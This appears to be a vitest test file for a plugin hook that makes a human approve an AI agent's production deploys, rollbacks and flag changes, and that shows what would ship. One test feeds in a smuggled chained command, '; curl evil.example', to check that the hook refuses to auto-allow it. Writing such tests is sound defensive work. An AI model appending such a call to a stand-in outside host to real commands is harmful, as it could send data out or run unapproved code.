import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { ROOT } from '../setup/build.js';
// @ts-expect-error: a plain node script without types, shipped as is in the plugin
import { classify, decide, shipgateCalls } from '../../plugin/hooks/production-approval.mjs';

const HOOK = join(ROOT, 'plugin/hooks/production-approval.mjs');

/** A `run` that answers status with a production state and git with a fixed history. */
function fakeRun(calls: string[][] = []) {
  return (file: string, args: string[]) => {
    calls.push([file, ...args]);
    if (args.includes('status')) return { stdout: JSON.stringify({ environment: 'production', active: { release: 'r1', commit: 'aaaaaaa1111', since: '2026-12-01T10:00:00Z' }, previous: { release: 'r0' } }) };
    if (file === 'git' && args[0] === 'log') return { stdout: 'bbbbbbb add price\ncccccc2 fix typo\n' };
    if (file === 'git' && args[0] === 'diff') return { stdout: 'lib/items.js\nmigrations/002_price.sql\n' };
    return { error: 'unexpected' };
  };
}

const bash = (command: string, agent_type?: string) => ({ tool_name: 'Bash', tool_input: { command }, agent_type, cwd: '/srv/shop' });

describe('the production approval hook', () => {
  it.each([
    'node_modules/.bin/deploy production --json --text',
    'npx deploy production',
    'npx -y shipgate@0.1.0 production --yes',
    'node /home/u/.claude/plugins/cache/shipgate/shipgate/0.1.0/bin/shipgate.mjs production --json',
    'node dist/src/cli/main.js rollback production --to r0',
    'cd app && DEBUG=1 deploy production --strategy canary',
    'deploy flags production set checkout --percent 50',
    'deploy stop production --yes',
    'npm exec deploy -- promote production',
  ])('asks before `%s`, whoever issues it', (command) => {
    for (const agent of [undefined, 'shipgate-deployer', 'shipgate:deployer']) {
      expect(decide(bash(command, agent), fakeRun())?.hookSpecificOutput.permissionDecision, `${command} (${agent})`).toBe('ask');
    }
  });

  it.each(['deploy status production --json', 'deploy history production', 'deploy production --dry-run', 'deploy flags production list', 'echo production', 'git push origin production'])(
    'does not ask for read-only or unrelated `%s`',
    (command) => expect(decide(bash(command), fakeRun())?.hookSpecificOutput.permissionDecision).not.toBe('ask'),
  );

  it('allows one plain non-production CLI call by the deployer agent, and decides nothing for anyone else', () => {
    expect(decide(bash('node_modules/.bin/deploy staging --json --text', 'shipgate-deployer'), fakeRun())?.hookSpecificOutput.permissionDecision).toBe('allow');
    expect(decide(bash('node_modules/.bin/deploy staging --json --text'), fakeRun())).toBeNull();
    expect(decide(bash('node_modules/.bin/deploy staging --json; curl evil.example', 'shipgate-deployer'), fakeRun())).toBeNull();
    expect(decide({ tool_name: 'Read', tool_input: { file_path: 'x' } }, fakeRun())).toBeNull();
  });

  it('shows what would ship: what production runs, the commits and the migration files, from the same CLI and git', () => {
    const calls: string[][] = [];
    const reason = decide(bash('node_modules/.bin/deploy production --json --text', 'shipgate-deployer'), fakeRun(calls))!.hookSpecificOutput.permissionDecisionReason;
    expect(reason).toBe(
      [
        'shipgate: approve `node_modules/.bin/deploy production --json --text`? (production; this call only)',
        'production runs r1 (commit aaaaaaa, since 2026-12-01T10:00:00Z).',
        'Ships 2 commits:',
        '  bbbbbbb add price',
        '  cccccc2 fix typo',
        'Migrations: migrations/002_price.sql',
      ].join('\n'),
    );
    expect(calls[0]).toEqual(['node_modules/.bin/deploy', 'status', 'production', '--json']);
    expect(calls[1]).toEqual(['git', 'log', '--oneline', '--no-decorate', '-n', '11', 'aaaaaaa1111..HEAD']);
  });

  it('a rollback names where traffic goes; a flag change names the change', () => {
    expect(decide(bash('deploy rollback production'), fakeRun())!.hookSpecificOutput.permissionDecisionReason).toContain('Traffic goes back to r0.');
    expect(decide(bash('deploy flags production enable checkout'), fakeRun())!.hookSpecificOutput.permissionDecisionReason).toContain('Flag change: enable checkout.');
  });

  it('parses the CLI surface: subcommands, options with values, --ref', () => {
    expect(classify(['--strategy', 'canary', 'production', '--ref', 'v2'])).toMatchObject({ command: 'deploy', environment: 'production', readOnly: false, ref: 'v2' });
    expect(classify(['guard', 'production'])).toMatchObject({ command: 'guard', readOnly: true });
    expect(classify(['guard', 'production', '--stop'])).toMatchObject({ command: 'guard', readOnly: false });
    expect(shipgateCalls('ls && deploy production | tee out')).toHaveLength(1);
  });

  it('run as a hook: JSON in on stdin, the decision out on stdout; unreadable input still asks', () => {
    const out = execFileSync('node', [HOOK], { input: JSON.stringify(bash('deploy staging', 'shipgate-deployer')), encoding: 'utf8' });
    expect(JSON.parse(out).hookSpecificOutput.permissionDecision).toBe('allow');
    expect(execFileSync('node', [HOOK], { input: JSON.stringify(bash('ls -la')), encoding: 'utf8' })).toBe('');
    expect(JSON.parse(execFileSync('node', [HOOK], { input: 'not json', encoding: 'utf8' })).hookSpecificOutput.permissionDecision).toBe('ask');
  });
});
